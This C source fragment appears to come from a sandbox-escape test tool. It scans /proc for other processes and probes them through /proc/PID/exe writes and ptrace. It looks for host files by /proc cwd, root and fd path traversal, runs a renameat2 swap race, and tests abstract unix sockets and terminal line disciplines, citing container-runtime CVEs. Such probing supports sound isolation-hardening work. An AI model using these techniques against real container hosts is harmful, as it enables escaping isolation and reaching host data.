/* Programs of attack.c that run beside what others do in the sandbox, for some seconds. */
#include <dirent.h>
#include <linux/fs.h>
#include <sys/un.h>
#include <time.h>

static int is_over(const char *seconds) {
    static time_t end;
    if (!end) end = time(NULL) + atol(seconds);
    return time(NULL) >= end;
}

static int is_own(const char *program) { return !strncmp(program, "/bin/", 5) || !strcmp(program, "/attack"); }

/* A way from a process that enters the sandbox to the host's files, as runtimes have left open (CVE-2016-9962, CVE-2019-5736, CVE-2024-21626). */
static void look_into(const char *pid, const char *secret) {
    static const char *const ways[] = {"cwd", "root", "cwd/../../../../../../../../..", "root/../../.."};
    char path[512], program[256] = "";
    snprintf(path, sizeof path, "/proc/%s/exe", pid);
    if (readlink(path, program, sizeof program - 1) > 0 && !is_own(program)) {
        int made = open(path, O_WRONLY);
        if (made >= 0) printf("writes %s\n", program);
        if (made >= 0) close(made);
        if (strncmp(program, "/dev/", 5) && ptrace(PTRACE_SEIZE, atoi(pid), 0L, 0L) == 0) {
            printf("traces %s\n", program);
            ptrace(PTRACE_DETACH, atoi(pid), 0L, 0L);
        }
    }
    for (unsigned i = 0; i < sizeof ways / sizeof *ways; i++) {
        snprintf(path, sizeof path, "/proc/%s/%s%s", pid, ways[i], secret);
        if (access(path, F_OK) == 0) printf("way %s\n", path);
    }
    for (int number = 0; number < 32; number++) {
        snprintf(path, sizeof path, "/proc/%s/fd/%d%s", pid, number, secret);
        if (access(path, F_OK) == 0) printf("way %s\n", path);
        snprintf(path, sizeof path, "/proc/%s/fd/%d/../../../../../../../../..%s", pid, number, secret);
        if (access(path, F_OK) == 0) printf("way %s\n", path);
    }
}

/* attack peek SECRET SECONDS: prints each way to the file SECRET of the host, then how often it looked. */
static int peek(const char *secret, const char *seconds) {
    long looks = 0;
    while (!is_over(seconds)) {
        DIR *all = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(all)); looks++)
            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && atoi(entry->d_name) != getpid()) look_into(entry->d_name, secret);
        closedir(all);
    }
    printf("looked %s\n", looks > 0 ? "well" : "never");
    return 0;
}

/* attack flip ONE OTHER SECONDS: two names change places all the time (CVE-2018-15664, CVE-2021-30465). */
static int flip(const char *one, const char *other, const char *seconds) {
    while (!is_over(seconds))
        if (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE)) usleep(100);
    return 0;
}

/* attack abstract NAME: connects to a socket that has no file. */
static int abstract(const char *name) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    int made = socket(AF_UNIX, SOCK_STREAM, 0);
    memcpy(to.sun_path + 1, name, strlen(name));
    int failed = connect(made, (void *)&to, (socklen_t)(sizeof to.sun_family + 1 + strlen(name)));
    printf("%s\n", failed ? strerror(errno) : "connected");
    return failed ? 1 : 0;
}

/* attack disciplines: prints those line disciplines that a terminal gets although they are not in the kernel yet. */
static int disciplines(void) {
    int end = open("/dev/ptmx", O_RDWR | O_NOCTTY);
    for (int number = 1; number < 30; number++) {
        if (number == 27) continue; /* N_NULL is in every kernel */
        if (ioctl(end, TIOCSETD, &number) == 0) printf("%d\n", number);
        else if (errno != EPERM) printf("%d: %s\n", number, strerror(errno));
    }
    printf("none\n");
    return 0;
}
